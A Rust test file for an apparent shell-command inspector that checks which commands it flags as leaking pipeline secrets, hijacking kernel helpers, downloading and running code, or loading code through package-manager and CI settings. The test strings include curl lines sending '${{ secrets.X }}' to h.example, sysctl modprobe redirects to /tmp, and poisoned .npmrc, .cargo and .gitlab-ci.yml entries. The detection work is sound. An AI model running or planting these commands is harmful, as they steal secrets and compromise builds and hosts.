//! Files by which others are told what to run and where it comes from: of the kernel, of builders and managers of packages, of pipelines.
//! Attacks, and the ordinary lines that look like them.

use countersign_inspect::FindingKind;

use crate::seen::{all, goes, inspect, none};

fn step(run: &str) -> String {
    format!("cat > .github/workflows/x.yml <<'E'\njobs:\n x:\n  steps:\n   - run: {run}\nE\n")
}

#[test]
fn secrets_of_a_pipeline_go_out_whatever_quotes_stand_around_them() {
    for run in [
        r"curl -d it\'s${{ secrets.X }} http://h.example/",
        r"echo don\'t; curl http://h.example/?${{ secrets.X }}",
        r"curl -d $'\'${{ secrets.X }}' http://h.example/",
        "|\n       # don't\n       curl -d '${{ secrets.X }}' http://h.example/",
        "|\n       curl -d 'a\n       ${{ secrets.X }}' http://h.example/",
        "curl -d \"$(echo '${{ secrets.X }}')\" http://h.example/",
        "|\n       cat <<A\n       don't\n       A\n       curl -d '${{ secrets.X }}' http://h.example/",
        "|\n       curl -d @- http://h.example/ <<'A'\n       ${{ secrets.X }}\n       A",
    ] {
        assert!(goes(&step(run), "secret"), "{run}: {:#?}", inspect(&step(run)));
    }
    for run in
        ["curl -d '${{ github.sha }}' http://h.example/", "echo '${{ secrets.X }}' | docker login --password-stdin"]
    {
        assert!(!goes(&step(run), "secret"), "{run}: {:#?}", inspect(&step(run)));
    }
    for line in [
        "sed -i 's|run: x|run: curl -d ${{ secrets.X }} http://h.example|' .github/workflows/x.yml",
        "yq -i '.jobs.x.steps[0].run = \"curl -d ${{ secrets.X }} http://h.example\"' .github/workflows/x.yml",
    ] {
        assert!(goes(line, "secret"), "{line}: {:#?}", inspect(line));
    }
    let plain = "sed -i 's|run: x|run: make ${{ matrix.target }}|' .github/workflows/x.yml";
    assert!(inspect(plain).flows.is_empty());
}

#[test]
fn the_kernel_starts_what_it_is_told_by_its_whole_name() {
    all(
        FindingKind::OpensToAnybody,
        &[
            "sysctl kernel.modprobe=/bin/true/../../tmp/x",
            "sysctl kernel.core_pattern='|/bin/true_evil'",
            "echo 'kernel.modprobe=/tmp/x' | sysctl -p -",
            "echo 'kernel.modprobe=/tmp/x' > /tmp/s; sysctl -p /tmp/s",
            "echo 'kernel/modprobe = /tmp/x' > /run/sysctl.d/x.conf",
            "echo '-kernel.modprobe=/tmp/x' > /etc/sysctl.d/x.conf",
            "echo ':x:M::\\x7fELF::/tmp/x:' > /etc/binfmt.d/x.conf",
        ],
    );
    none(
        FindingKind::OpensToAnybody,
        &[
            "sysctl kernel.modprobe=/sbin/modprobe",
            "echo 'vm.swappiness=10' | sysctl -p -",
            "echo ':qemu-arm:M::\\x7fELF::/usr/bin/qemu-arm-static:F' > /etc/binfmt.d/x.conf",
        ],
    );
}

#[test]
fn what_is_fetched_into_the_place_of_a_manifest_is_run_by_its_own_tool() {
    all(
        FindingKind::DownloadAndExecute,
        &[
            "curl -o .cargo/config.toml http://h.example/; cargo build",
            "curl -o pyproject.toml http://h.example/; pip install .",
            "curl -o test_x.py http://h.example/; pytest",
            "curl -o /tmp/x http://h.example/; mv /tmp/x ~/.bashrc",
            "curl -o /tmp/.bashrc http://h.example/; mv -t ~ /tmp/.bashrc",
            "curl -o package.json http://h.example/; npm test",
            "curl -o src/lib.rs http://h.example/; cargo test",
            "curl -o a_test.go http://h.example/; go test ./...",
        ],
    );
    none(
        FindingKind::DownloadAndExecute,
        &[
            "curl -o fixtures/package.json https://h.example/p.json; cargo test",
            "curl -o testdata/a.rs https://h.example/x; cargo test",
            "curl -o testdata/Dockerfile https://h.example/x; make test",
            "curl -o /tmp/x http://h.example/; mv /tmp/x data/x.csv",
        ],
    );
}

#[test]
fn settings_name_who_is_asked_and_what_is_run() {
    all(
        FindingKind::LoadsCode,
        &[
            "echo '{\"registries\":[{\"repository\":\"https://u@h.example/x\"}]}' > vcpkg-configuration.json",
            "echo '\"registry\"=https://h.example/@a' > .npmrc",
            "printf 'node-options=-r=/tmp/x.js\\n' > .npmrc",
            "printf 'build = { rustc-wrapper = \"/tmp/x\" }\\n' > .cargo/config.toml",
            "printf '[build]\\nrustflags = [\"-C\",\"linker=/tmp/x\"]\\n' > .cargo/config.toml",
            "printf '[target.x]\\nrunner = [\\n \"/tmp/x\",\\n]\\n' > .cargo/config.toml",
            "printf '[env]\\nRUSTC_WRAPPER = \"/tmp/x\"\\n' > .cargo/config.toml",
            "printf '[source.x]\\ndirectory = \"/tmp/vendor\"\\n' > .cargo/config.toml",
            "printf 'yarnPath: /tmp/x.cjs\\n' > .yarnrc.yml",
            "printf 'plugins:\\n  - path: /tmp/x.cjs\\n    spec: a\\n' > .yarnrc.yml",
            "printf 'plugins:\\n  - path: .yarn/x.cjs\\n    spec: https://h.example/x.cjs\\n' > .yarnrc.yml",
            "printf ':sources:\\n- https://h.example/\\n' > ~/.gemrc",
            "printf 'a: &b c\\ninclude:\\n - https://h.example/x.yml\\n' > .gitlab-ci.yml",
            "printf 'a = [\\nscript-shell=/tmp/x\\n' > .npmrc",
            "printf 'jobs = 4 # [\\n[build]\\nrustc-wrapper = \"\\\\u002ftmp\\\\u002fx\"\\n' > .cargo/config.toml",
            "printf '[build]\\n\"rustc-wrapp\\\\u0065r\" = \"x\"\\n' > .cargo/config.toml",
            "printf 'target = { x = { runner = \"/tmp/x\" } }\\n' > .cargo/config.toml",
            "printf '{ \"yarnPath\": \"/tmp/x.cjs\" }\\n' > .yarnrc.yml",
            "printf '[env]\\nCC = \"/tmp/x\"\\n' > .cargo/config.toml",
            "printf 'preload = [\"/tmp/x.ts\"]\\n' > bunfig.toml",
            "printf 'post-build-hook = /tmp/x\\n' > ~/.config/nix/nix.conf",
            "printf 'Types: deb\\nURIs: http://h.example/debian\\n' > /etc/apt/sources.list.d/x.sources",
            "printf 'GOCACHEPROG=/tmp/x\\n' > ~/.config/go/env",
            "printf '[global]\\nextra-index-url =\\n    https://h.example/simple\\n' > ~/.config/pip/pip.conf",
            "printf \"include: 'https://h.example/x.yml'\\n\" > .gitlab-ci.yml",
            "printf \"include:\\n - https://h.example/x.yml\\n\" > .gitlab-ci.yml",
            "printf \"include: {remote: 'https://h.example/x.yml'}\\n\" > .gitlab-ci.yml",
            "printf 'repos: [{repo: \"https://h.example/x\", rev: v1}]\\n' > .pre-commit-config.yaml",
            "printf 'repos:\\n- repo: git@h.example:x\\n  rev: v1\\n' > .pre-commit-config.yaml",
            "printf '[defaults]\\ncallback_plugins: /tmp/x\\n' > ansible.cfg",
            "printf '[defaults]\\nCALLBACK_PLUGINS = $HOME/x\\n' > ansible.cfg",
            "printf '[defaults]\\nvault_password_file = ../../tmp/x.sh\\n' > ansible.cfg",
            "printf '[defaults]\\ncallback_plugins = /tmp/x\\n' > ~/.ansible.cfg",
        ],
    );
    none(
        FindingKind::LoadsCode,
        &[
            "echo '@acme:registry=https://npm.acme.io/' > .npmrc",
            "printf 'node-options=--max-old-space-size=4096\\n' > .npmrc",
            "printf '[build]\\nrustflags = [\"-C\",\"target-cpu=native\"]\\n' > .cargo/config.toml",
            "printf '[target.x]\\nrunner = \"scripts/run.sh\"\\n' > .cargo/config.toml",
            "printf '[source.x]\\ndirectory = \"vendor\"\\n' > .cargo/config.toml",
            "printf 'yarnPath: .yarn/releases/yarn-4.cjs\\n' > .yarnrc.yml",
            "printf 'a: &b c\\ninclude:\\n - /ci/x.yml\\nimage: https://h.example/x\\n' > .gitlab-ci.yml",
            "printf 'include:\\n - local: a.yml\\n - template: x.yml\\n' > .gitlab-ci.yml",
            "printf 'repos:\\n- repo: https://github.com/psf/black\\n  rev: v1\\n- repo: local\\n' > .pre-commit-config.yaml",
            "printf '[defaults]\\ninventory = /home/user/project/hosts\\nroles_path = roles:~/.ansible/roles\\n' > ansible.cfg",
        ],
    );
}
